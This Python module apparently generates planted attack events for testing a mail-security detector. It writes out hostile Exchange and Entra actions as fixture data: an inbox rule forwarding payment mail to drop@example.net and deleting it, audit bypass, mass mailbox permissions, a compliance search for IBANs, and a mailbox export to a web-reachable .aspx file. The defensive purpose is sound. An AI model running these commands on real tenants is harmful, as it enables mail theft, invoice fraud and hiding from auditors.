"""Changes that decide who reads mail and where it goes, as planted cases have them."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime

from gundog.samples.rows import CLOUD, PROCESSES, Event, Row, change, process, stream

Record = dict[str, object]

STRANGER = "203.0.113.66"
_MAIL_APP = "3e0c9f2a-6b1d-4c57-8f4e-5a7712d09b36"
_OLD_APP = "8c1d2f60-52a7-4d0b-9e11-6a0f4be7c2d5"


def _cmdlet(**parameters: str) -> Record:
    return {"Parameters": [{"Name": name, "Value": value} for name, value in parameters.items()]}


def _entra(name: str, **properties: str) -> Record:
    """What Entra records of an application: its properties before and after."""
    return {
        "RecordType": 8,
        "Workload": "AzureActiveDirectory",
        "AzureActiveDirectoryEventType": 1,
        "ModifiedProperties": [
            {"Name": key.replace("__", "."), "NewValue": value, "OldValue": ""}
            for key, value in properties.items()
        ],
        "Target": [{"ID": "ServicePrincipal", "Type": 2}, {"ID": name, "Type": 1}],
    }


def _consent(scopes: str) -> Record:
    grant = f"[] => [[Id: g, ConsentType: Principal, Scope: {scopes}, CreatedDateTime: ]]; "
    properties = {
        "ConsentContext__IsAdminConsent": "False",
        "ConsentAction__Permissions": grant,
        "TargetId__ServicePrincipalNames": _MAIL_APP,
    }
    return _entra("Calendar Helper", **properties)


_ROLE = _entra(
    "Office 365 Exchange Online",
    AppRole__Value="full_access_as_app",
    ServicePrincipal__DisplayName="Legacy Sync",
    ServicePrincipal__AppId=_OLD_APP,
)
_KEY = _entra(
    "Legacy Sync",
    KeyDescription="[KeyIdentifier=5a3e0001,KeyType=Password,KeyUsage=Verify]",
    TargetId__ServicePrincipalNames=_OLD_APP,
)
_ADD_KEY = "Update application \N{EN DASH} Certificates and secrets management "
_HIDING = _cmdlet(
    Name=".",
    SubjectOrBodyContainsWords="invoice;payment",
    ForwardTo="drop@example.net",
    DeleteMessage="True",
)
_SORTING = _cmdlet(Name="Project", From="olga@example.com", MoveToFolder="paul:\\Project")
_SEARCH = '-Name "wires" -ExchangeLocation "All" -ContentMatchQuery "payment AND iban"'


def _opened(mailbox: str) -> Record:
    return _cmdlet(
        Identity=f"{mailbox}@example.com",
        User="nolan@example.com",
        AccessRights="FullAccess",
        InheritanceType="All",
    )


_CHANGES: dict[str, tuple[tuple[str, str, str, Record, str], ...]] = {
    "consent_to_mail": (
        ("30 08:41", "Consent to application.", "nina", _consent("Mail.Read User.Read"), ""),
    ),
    "consent_to_sign_in": (
        ("30 08:52", "Consent to application.", "olga", _consent("openid profile User.Read"), ""),
    ),
    "role_for_all_mailboxes": (
        ("31 05:20", "Add app role assignment to service principal.", "exadmin", _ROLE, STRANGER),
    ),
    "key_for_an_application": (("31 05:12", _ADD_KEY, "exadmin", _KEY, STRANGER),),
    "mailboxes_opened": tuple(
        (f"30 08:{minute:02}", "Add-MailboxPermission", "exadmin", _opened(mailbox), "")
        for minute, mailbox in enumerate(("anna", "bert", "cara", "dora"), start=10)
    ),
    "rule_that_forwards_and_hides": (("28 13:05", "New-InboxRule", "karl", _HIDING, STRANGER),),
    "rule_that_sorts": (("28 13:20", "New-InboxRule", "paul", _SORTING, ""),),
    "mailboxes_searched": (
        ("31 05:40", "New-ComplianceSearch", "exadmin", {"Parameters": _SEARCH}, STRANGER),
        ("31 06:10", "SearchExported", "exadmin", {"ObjectId": "wires"}, STRANGER),
    ),
    "audit_bypassed": (
        (
            "30 08:05",
            "Set-MailboxAuditBypassAssociation",
            "exadmin",
            _cmdlet(Identity="nolan@example.com", AuditBypassEnabled="True"),
            "",
        ),
    ),
}

_EXPORT = (
    r"New-MailboxExportRequest -Mailbox board -FilePath"
    r" \\exch22\c$\inetpub\wwwroot\aspnet_client\a.aspx"
)


def events(name: str) -> Iterator[Event]:
    """The changes of a case, or the export that a web shell starts; nothing for other cases."""
    random = stream("case", name)
    for day, action, actor, record, address in _CHANGES.get(name, ()):
        row = change(random, _time(day), action, actor, record, address)
        yield Event(CLOUD, row, (_time(day),))
    if name == "web_shell_export":
        yield Event(PROCESSES, _web_shell(), (_time("30 03:14"),))


def _web_shell() -> Row:
    random = stream("case", "web_shell_export")
    line = f'powershell.exe -NoProfile -Command "{_EXPORT}"'
    return process(random, _time("30 03:14"), "exch22", "system", line, parent="w3wp.exe")


def _time(day: str) -> datetime:
    return datetime.fromisoformat(f"2026-10-{day}:00+00:00")
